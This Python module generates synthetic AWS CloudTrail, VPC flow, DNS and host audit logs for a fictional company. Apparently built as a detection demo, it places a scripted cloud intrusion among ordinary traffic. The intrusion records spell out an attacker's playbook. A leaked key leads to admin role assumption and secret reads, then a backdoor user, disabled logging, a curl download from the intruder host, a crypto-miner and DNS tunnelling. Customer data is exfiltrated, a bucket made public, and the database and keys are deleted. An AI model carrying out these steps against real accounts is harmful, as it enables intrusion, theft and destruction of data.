"""A day of an ordinary company's logs, with an intrusion in it.

All of it is made up: the company, its people, the addresses (those that documentation may use), and the intruder, who
finds an access key of a build server and goes on from there.  The same seed gives the same bytes.
"""

# ruff: noqa: S108, S311 -- what an intruder does, and dice that must fall the same each time

from __future__ import annotations

import gzip
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

DAY = datetime(2026, 3, 2, tzinfo=UTC)
"""The day that the demo plays: a Monday."""

ACCOUNT = "111122223333"
STRANGER_ACCOUNT = "999988887777"
REGIONS = ("eu-west-1", "eu-central-1")
INTRUDER = "203.0.113.66"
MINING_POOL = "pool.coin-mine.example"
TUNNEL = "sync.cdn-assets.example"
STOLEN_KEY = "AKIAKOBANDEMO00CI001"
BUCKET = "shop-customer-exports"
HOST_ADDRESS = "10.20.1.15"
INSTANCE = "i-0a1b2c3d4e5f60718"
HOST = INSTANCE
"""The company names its hosts by their instances."""
NOISE_EVENTS = 200_000

PEOPLE = ("ana", "ben", "chloe", "dev", "emi", "femi", "goran", "hana")
SERVICES = ("orders", "search", "billing", "images", "reports")
READS = (
    ("ec2.amazonaws.com", "DescribeInstances"),
    ("ec2.amazonaws.com", "DescribeVolumes"),
    ("s3.amazonaws.com", "GetObject"),
    ("s3.amazonaws.com", "PutObject"),
    ("s3.amazonaws.com", "HeadObject"),
    ("dynamodb.amazonaws.com", "GetItem"),
    ("kms.amazonaws.com", "Decrypt"),
    ("kms.amazonaws.com", "GenerateDataKey"),
    ("sts.amazonaws.com", "GetCallerIdentity"),
    ("logs.amazonaws.com", "DescribeLogGroups"),
    ("cloudwatch.amazonaws.com", "GetMetricData"),
    ("lambda.amazonaws.com", "GetFunction20150331v2"),
    ("sqs.amazonaws.com", "GetQueueAttributes"),
)


@dataclass
class _Day:
    start: datetime
    random: random.Random
    trail: list[tuple[datetime, str]] = field(default_factory=list)
    flows: list[tuple[datetime, str]] = field(default_factory=list)
    dns: list[tuple[datetime, str]] = field(default_factory=list)
    host: list[tuple[datetime, str]] = field(default_factory=list)
    audit: list[tuple[datetime, str]] = field(default_factory=list)

    def at(self, clock: str) -> datetime:
        hours, minutes, *seconds = (float(part) for part in clock.split(":"))
        return self.start + timedelta(hours=hours, minutes=minutes, seconds=seconds[0] if seconds else 0)

    def uuid(self) -> str:
        digits = f"{self.random.getrandbits(128):032x}"
        return "-".join((digits[:8], digits[8:12], digits[12:16], digits[16:20], digits[20:]))

    # -- one record of each log ---------------------------------------------------------------------------------------

    def call(
        self, when: datetime, who: dict[str, Any], source: str, name: str, address: str, agent: str,
        request: dict[str, Any] | None = None, response: dict[str, Any] | None = None, **more: Any,
    ) -> None:  # fmt: skip
        record = {
            "eventVersion": "1.11",
            "userIdentity": who,
            "eventTime": f"{when:%Y-%m-%dT%H:%M:%SZ}",
            "eventSource": source,
            "eventName": name,
            "awsRegion": more.pop("region", REGIONS[0]),
            "sourceIPAddress": address,
            "userAgent": agent,
            "requestParameters": request,
            "responseElements": response,
            "requestID": self.uuid(),
            "eventID": self.uuid(),
            "readOnly": name.startswith(("Get", "List", "Describe", "Head")),
            "eventType": more.pop("kind", "AwsApiCall"),
            "managementEvent": name not in ("GetObject", "PutObject", "HeadObject", "DeleteObjects", "GetItem"),
            "recipientAccountId": ACCOUNT,
        } | more
        self.trail.append((when, json.dumps(record, separators=(",", ":"))))

    def flow(
        self, when: datetime, source: str, target: str, source_port: int, port: int, packets: int, size: int,
        action: str = "ACCEPT", protocol: int = 6,
    ) -> None:  # fmt: skip
        begin = int(when.timestamp())
        self.flows.append(
            (
                when,
                f"2 {ACCOUNT} eni-0f00ba7{int(source.rpartition('.')[2]):03d} {source} {target} {source_port} {port}"
                f" {protocol} {packets} {size} {begin} {begin + 59} {action} OK",
            )
        )

    def query(self, when: datetime, name: str, kind: str = "A", code: str = "NOERROR", answer: str = "") -> None:
        record = {
            "version": "1.100000",
            "account_id": ACCOUNT,
            "region": REGIONS[0],
            "vpc_id": "vpc-0aa11bb22cc33dd44",
            "query_timestamp": f"{when:%Y-%m-%dT%H:%M:%SZ}",
            "query_name": f"{name}.",
            "query_type": kind,
            "query_class": "IN",
            "rcode": code,
            "answers": [{"Rdata": answer, "Type": kind, "Class": "IN"}] if answer else [],
            "srcaddr": HOST_ADDRESS,
            "srcport": str(self.random.randint(1024, 65000)),
            "transport": "UDP",
            "srcids": {"instance": INSTANCE},
        }
        self.dns.append((when, json.dumps(record, separators=(",", ":"))))

    def log(self, when: datetime, program: str, text: str) -> None:
        self.host.append((when, f"<86>1 {when:%Y-%m-%dT%H:%M:%S.000Z} {HOST} {program} 1042 - - {text}"))

    def execve(self, when: datetime, serial: int, user: str, *arguments: str) -> None:
        stamp = f"audit({when.timestamp():.3f}:{serial})"
        exe = f"/usr/bin/{arguments[0]}"
        words = " ".join(f'a{n}="{a}"' for n, a in enumerate(arguments))
        self.audit.append(
            (
                when,
                f"node={HOST} type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 ppid=2101"
                f" pid={serial % 30000}"
                f' auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=4 comm="{arguments[0]}" exe="{exe}" key="exec"\n'
                f"node={HOST} type=EXECVE msg={stamp}: argc={len(arguments)} {words}\n"
                f'node={HOST} type=CWD msg={stamp}: cwd="/tmp"',
            )
        )


def _user(name: str, key: str = "", kind: str = "IAMUser") -> dict[str, Any]:
    made: dict[str, Any] = {
        "type": kind,
        "principalId": f"AIDADEMO{name.upper()}",
        "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}",
        "accountId": ACCOUNT,
        "userName": name,
    }
    return made | ({"accessKeyId": key} if key else {})


def _role(role: str, session: str, key: str) -> dict[str, Any]:
    return {
        "type": "AssumedRole",
        "principalId": f"AROADEMO{role.upper()}:{session}",
        "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}",
        "accountId": ACCOUNT,
        "accessKeyId": key,
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "principalId": f"AROADEMO{role.upper()}",
                "arn": f"arn:aws:iam::{ACCOUNT}:role/{role}",
                "accountId": ACCOUNT,
                "userName": role,
            },
            "attributes": {"mfaAuthenticated": "false"},
        },
    }


CONSOLE = "https://console.aws.amazon.com/"
CLI = "aws-cli/2.27.0 md/awscrt Python/3.13 exe/x86_64"
BOTO = "Boto3/1.40.2 md/Botocore#1.40.2 ua/2.1 os/linux lang/python#3.12"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/140.0 Safari/537.36"


def _ordinary(day: _Day, events: int) -> None:
    """People at work, services at their tasks, and the internet knocking."""
    r = day.random
    seconds = 86400.0
    for n in range(int(events * 0.55)):
        when = day.start + timedelta(seconds=seconds * (n + r.random()) / (events * 0.55))
        service = r.choice(SERVICES)
        source, name = r.choice(READS)
        session = f"i-0{r.randint(0x100, 0x1FF):016x}"
        who = _role(f"{service}-service", session, f"ASIADEMO{service.upper():_<8}{r.randint(0, 9)}")
        request = (
            {"bucketName": f"shop-{service}", "key": f"{r.getrandbits(40):x}"} if source.startswith("s3") else None
        )
        failed: dict[str, Any] = {"errorCode": "NoSuchKey"} if r.random() < 0.002 else {}
        day.call(when, who, source, name, f"10.20.{r.randint(1, 3)}.{r.randint(10, 60)}", BOTO, request, **failed)
    for person in PEOPLE:
        office = "198.51.100.20"
        begin = day.start + timedelta(hours=8, minutes=r.randint(0, 90))
        mfa = {"ConsoleLogin": "Success"}
        day.call(
            begin, _user(person), "signin.amazonaws.com", "ConsoleLogin", office, BROWSER, None, mfa,
            kind="AwsConsoleSignIn", additionalEventData={"MFAUsed": "Yes", "LoginTo": CONSOLE},
        )  # fmt: skip
        for _ in range(r.randint(120, 220)):
            when = begin + timedelta(seconds=r.random() * 8 * 3600)
            source, name = r.choice(READS)
            day.call(when, _user(person, f"ASIADEMO{person.upper():_<8}1"), source, name, office, BROWSER)
    for n in range(48):
        when = day.start + timedelta(minutes=30 * n + r.random() * 5)
        key = _user("ci-deploy", STOLEN_KEY)
        for source, name in (
            ("sts.amazonaws.com", "GetCallerIdentity"),
            ("ecr.amazonaws.com", "GetAuthorizationToken"),
        ):
            day.call(when, key, source, name, "198.51.100.31", BOTO)
    for n in range(int(events * 0.3)):
        when = day.start + timedelta(seconds=seconds * (n + r.random()) / (events * 0.3))
        inside = f"10.20.{r.randint(1, 3)}.{r.randint(10, 60)}"
        if r.random() < 0.03:
            stranger, knocked = f"192.0.2.{r.randint(1, 250)}", r.choice((22, 23, 3389))
            day.flow(when, stranger, inside, r.randint(1024, 65000), knocked, 1, 40,
                     "REJECT")  # fmt: skip
        else:
            day.flow(when, inside, f"10.20.{r.randint(1, 3)}.{r.randint(10, 60)}", r.randint(32768, 60999),
                     r.choice((443, 5432, 6379, 8080)), r.randint(4, 60), r.randint(400, 60000))  # fmt: skip
    names = (
        "orders.internal.example",
        "db-1.internal.example",
        "s3.eu-west-1.amazonaws.com",
        "pypi.example",
        "time.example",
    )
    for n in range(int(events * 0.12)):
        when = day.start + timedelta(seconds=seconds * (n + r.random()) / (events * 0.12))
        day.query(when, r.choice(names), answer=f"10.20.1.{r.randint(10, 60)}")
    for n in range(int(events * 0.03)):
        when = day.start + timedelta(seconds=seconds * (n + r.random()) / (events * 0.03))
        if r.random() < 0.7:
            day.log(
                when, "CRON", f"pam_unix(cron:session): session {r.choice(('opened', 'closed'))} for user root(uid=0)"
            )
        else:
            day.log(
                when,
                "sshd",
                f"Connection closed by 192.0.2.{r.randint(1, 250)} port {r.randint(1024, 65000)} [preauth]",
            )


def _intrusion(day: _Day) -> None:
    """One intruder, from a leaked key to the ransom note."""
    r = day.random
    stolen = _user("ci-deploy", STOLEN_KEY)
    denied: dict[str, Any] = {
        "errorCode": "AccessDenied",
        "errorMessage": "User is not authorized to perform this action",
    }

    # 02:14 the key is tried, and what it may do is found out
    day.call(day.at("2:14"), stolen, "sts.amazonaws.com", "GetCallerIdentity", INTRUDER, CLI)
    looks = ("ListUsers", "ListRoles", "ListAttachedUserPolicies", "GetAccountAuthorizationDetails", "ListAccessKeys",
             "GetAccountSummary", "ListGroupsForUser", "ListMFADevices")  # fmt: skip
    for n in range(64):
        name = looks[n % len(looks)]
        when = day.at("2:15") + timedelta(seconds=4 * n)
        day.call(when, stolen, "iam.amazonaws.com", name, INTRUDER, CLI, region="us-east-1", **denied)
    day.call(day.at("2:21"), stolen, "s3.amazonaws.com", "ListBuckets", INTRUDER, CLI)
    day.call(day.at("2:22"), stolen, "secretsmanager.amazonaws.com", "ListSecrets", INTRUDER, CLI)

    # 02:30 the key may assume the deployment's role, and that role may do anything
    day.call(
        day.at("2:30"), stolen, "sts.amazonaws.com", "AssumeRole", INTRUDER, CLI,
        {"roleArn": f"arn:aws:iam::{ACCOUNT}:role/deploy-admin", "roleSessionName": "release"},
        {
            "credentials": {"accessKeyId": "ASIAKOBANDEMO0ADMIN1", "expiration": "later"},
            "assumedRoleUser": {"arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/deploy-admin/release"},
        },
    )  # fmt: skip
    admin = _role("deploy-admin", "release", "ASIAKOBANDEMO0ADMIN1")
    for n, secret in enumerate(("billing/db", "orders/api", "mail/smtp")):
        day.call(day.at("2:33") + timedelta(seconds=9 * n), admin, "secretsmanager.amazonaws.com", "GetSecretValue",
                 INTRUDER, CLI, {"secretId": secret})  # fmt: skip

    # 02:40 a way back in
    iam: dict[str, Any] = {"region": "us-east-1"}
    day.call(day.at("2:40"), admin, "iam.amazonaws.com", "CreateUser", INTRUDER, CLI, {"userName": "backup-svc"},
             {"user": {"userName": "backup-svc", "arn": f"arn:aws:iam::{ACCOUNT}:user/backup-svc"}}, **iam)  # fmt: skip
    day.call(day.at("2:41"), admin, "iam.amazonaws.com", "AttachUserPolicy", INTRUDER, CLI,
             {"userName": "backup-svc", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, **iam)  # fmt: skip
    day.call(day.at("2:42"), admin, "iam.amazonaws.com", "CreateLoginProfile", INTRUDER, CLI,
             {"userName": "backup-svc", "passwordResetRequired": False}, **iam)  # fmt: skip
    day.call(day.at("2:43"), admin, "iam.amazonaws.com", "CreateAccessKey", INTRUDER, CLI, {"userName": "backup-svc"},
             {"accessKey": {"userName": "backup-svc", "accessKeyId": "AKIAKOBANDEMO0BACKUP"}}, **iam)  # fmt: skip
    backup = _user("backup-svc")
    day.call(day.at("2:50"), backup, "signin.amazonaws.com", "ConsoleLogin", INTRUDER, BROWSER, None,
             {"ConsoleLogin": "Success"}, kind="AwsConsoleSignIn", region="us-east-1",
             additionalEventData={"MFAUsed": "No", "LoginTo": CONSOLE})  # fmt: skip

    # 02:55 the eyes are put out
    key = _user("backup-svc", "AKIAKOBANDEMO0BACKUP")
    arn = f"arn:aws:cloudtrail:{REGIONS[0]}:{ACCOUNT}:trail/audit"
    day.call(day.at("2:55"), key, "cloudtrail.amazonaws.com", "StopLogging", INTRUDER, CLI, {"name": arn}, **denied)
    day.call(day.at("2:56"), key, "cloudtrail.amazonaws.com", "PutEventSelectors", INTRUDER, CLI,
             {"trailName": "audit", "eventSelectors": [{"includeManagementEvents": False}]})  # fmt: skip
    day.call(day.at("2:57"), key, "guardduty.amazonaws.com", "UpdateDetector", INTRUDER, CLI,
             {"detectorId": "d0d0", "enable": False})  # fmt: skip
    day.call(day.at("2:58"), key, "config.amazonaws.com", "StopConfigurationRecorder", INTRUDER, CLI,
             {"configurationRecorderName": "default"})  # fmt: skip

    # 03:05 a door to a host, and a miner on it
    day.call(day.at("3:05"), key, "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", INTRUDER, CLI,
             {"groupId": "sg-0123456789abcdef0", "ipPermissions": {"items": [
                 {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
                  "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}})  # fmt: skip
    day.call(day.at("3:07"), key, "ssm.amazonaws.com", "SendCommand", INTRUDER, CLI,
             {"documentName": "AWS-RunShellScript", "instanceIds": [INSTANCE]})  # fmt: skip
    for n in range(14):
        when = day.at("3:09") + timedelta(seconds=3 * n)
        day.log(when, "sshd", f"Failed password for root from {INTRUDER} port {41000 + n} ssh2")
    day.log(day.at("3:10"), "sshd", f"Accepted password for deploy from {INTRUDER} port 41101 ssh2")
    day.log(day.at("3:11"), "sudo", "deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash")
    day.log(
        day.at("3:12"), "useradd", "new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"
    )
    day.execve(day.at("3:13"), 90001, "root", "curl", "-fsSL", f"http://{INTRUDER}/x.sh", "-o", "/tmp/.x.sh")
    day.execve(day.at("3:13:10"), 90002, "root", "chmod", "+x", "/tmp/.x.sh")
    day.execve(day.at("3:14"), 90003, "root", "xmrig", "-o", f"stratum+tcp://{MINING_POOL}:3333", "--donate-level", "1")
    day.execve(day.at("3:15"), 90004, "root", "crontab", "/tmp/.cron")
    day.flow(day.at("3:10"), INTRUDER, HOST_ADDRESS, 41101, 22, 900, 210_000)
    for n in range(120):
        day.flow(day.at("3:16") + timedelta(seconds=60 * n + r.random()), HOST_ADDRESS, INTRUDER, 50122, 8443, 6, 1480)
    for n in range(90):
        when = day.at("3:15") + timedelta(seconds=47 * n)
        day.query(when, MINING_POOL, answer="203.0.113.90")
    for n in range(400):
        when = day.at("3:30") + timedelta(seconds=5 * n + r.random())
        label = "".join(r.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(52))
        day.query(when, f"{label}.{n:x}.{TUNNEL}", "TXT")

    # 03:20 the instance's own credentials, from outside
    instance = _role("web-instance", INSTANCE, "ASIAKOBANDEMO0INST01")
    for n, (source, name) in enumerate((("sts.amazonaws.com", "GetCallerIdentity"), ("s3.amazonaws.com", "ListBuckets"),
                                        ("ec2.amazonaws.com", "DescribeInstances"))):  # fmt: skip
        day.call(day.at("3:20") + timedelta(minutes=n), instance, source, name, INTRUDER, CLI)

    # 04:00 the data goes, and the copies are shared with a stranger
    for n in range(600):
        day.call(day.at("4:00") + timedelta(seconds=2.5 * n), key, "s3.amazonaws.com", "GetObject", INTRUDER, CLI,
                 {"bucketName": BUCKET, "key": f"2026/customers-{n:04d}.csv"},
                 additionalEventData={"bytesTransferredOut": r.randint(4_000_000, 9_000_000)},
                 resources=[{"type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{BUCKET}"}])  # fmt: skip
    for n in range(40):
        day.flow(day.at("4:02") + timedelta(minutes=n), HOST_ADDRESS, INTRUDER, 50200 + n, 443, 90_000, 120_000_000)
    day.call(day.at("4:30"), key, "ec2.amazonaws.com", "ModifySnapshotAttribute", INTRUDER, CLI,
             {"snapshotId": "snap-0123456789abcdef0", "attributeType": "CREATE_VOLUME_PERMISSION",
              "createVolumePermission": {"add": {"items": [{"userId": STRANGER_ACCOUNT}]}}})  # fmt: skip
    day.call(day.at("4:35"), key, "s3.amazonaws.com", "PutBucketPolicy", INTRUDER, CLI,
             {"bucketName": BUCKET, "bucketPolicy": {"Statement": [{"Effect": "Allow", "Principal": "*",
              "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{BUCKET}/*"}]}})  # fmt: skip

    # 05:00 what is left is taken hostage
    day.call(day.at("5:00"), key, "s3.amazonaws.com", "PutBucketVersioning", INTRUDER, CLI,
             {"bucketName": BUCKET, "VersioningConfiguration": {"Status": "Suspended"}})  # fmt: skip
    for n in range(12):
        day.call(day.at("5:01") + timedelta(seconds=5 * n), key, "s3.amazonaws.com", "DeleteObjects", INTRUDER, CLI,
                 {"bucketName": BUCKET})  # fmt: skip
    day.call(day.at("5:03"), key, "s3.amazonaws.com", "PutObject", INTRUDER, CLI,
             {"bucketName": BUCKET, "key": "READ_ME_TO_RESTORE.txt"})  # fmt: skip
    day.call(day.at("5:05"), key, "rds.amazonaws.com", "DeleteDBInstance", INTRUDER, CLI,
             {"dBInstanceIdentifier": "billing", "skipFinalSnapshot": True})  # fmt: skip
    day.call(day.at("5:06"), key, "kms.amazonaws.com", "ScheduleKeyDeletion", INTRUDER, CLI,
             {"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab", "pendingWindowInDays": 7})  # fmt: skip


def write(directory: Path, start: datetime, *, seed: int = 7, noise: int = NOISE_EVENTS) -> int:
    """Writes the day's logs as AWS and the host would have left them; how many records there are.

    `directory` gets `AWSLogs/...` as a trail's bucket has it, and `hosts/`.
    """
    day = _Day(start.astimezone(UTC).replace(hour=0, minute=0, second=0, microsecond=0), random.Random(seed))
    _ordinary(day, noise)
    _intrusion(day)
    date = f"{day.start:%Y/%m/%d}"
    base = directory / "AWSLogs" / ACCOUNT
    for n, part in enumerate(_parts(day.trail, 48)):
        path = (
            base
            / "CloudTrail"
            / REGIONS[0]
            / date
            / f"{ACCOUNT}_CloudTrail_{REGIONS[0]}_{day.start:%Y%m%d}T{n:04d}Z.json.gz"
        )
        _write(path, '{"Records":[' + ",".join(part) + "]}")
    names = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end"
    header = f"{names} action log-status"
    for n, part in enumerate(_parts(day.flows, 24)):
        path = base / "vpcflowlogs" / REGIONS[0] / date / f"{ACCOUNT}_vpcflowlogs_{n:02d}.log.gz"
        _write(path, "\n".join([header, *part]) + "\n")
    for n, part in enumerate(_parts(day.dns, 24)):
        _write(base / "vpcdnsquerylogs" / "vpc-0aa11bb22cc33dd44" / date / f"{n:02d}.log.gz", "\n".join(part) + "\n")
    host = directory / "hosts" / HOST
    _write(host / "auth.log.gz", "\n".join(t for _, t in sorted(day.host)) + "\n")
    _write(host / "audit.log.gz", "\n".join(t for _, t in sorted(day.audit)) + "\n")
    return sum(map(len, (day.trail, day.flows, day.dns, day.host, day.audit)))


def _parts(records: list[tuple[datetime, str]], count: int) -> Iterator[list[str]]:
    texts = [text for _, text in sorted(records, key=lambda record: record[0])]
    size = -(-len(texts) // count)
    return (texts[at : at + size] for at in range(0, len(texts), size))


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    # no time in the header: the same bytes each time
    path.write_bytes(gzip.compress(text.encode(), 6, mtime=0))
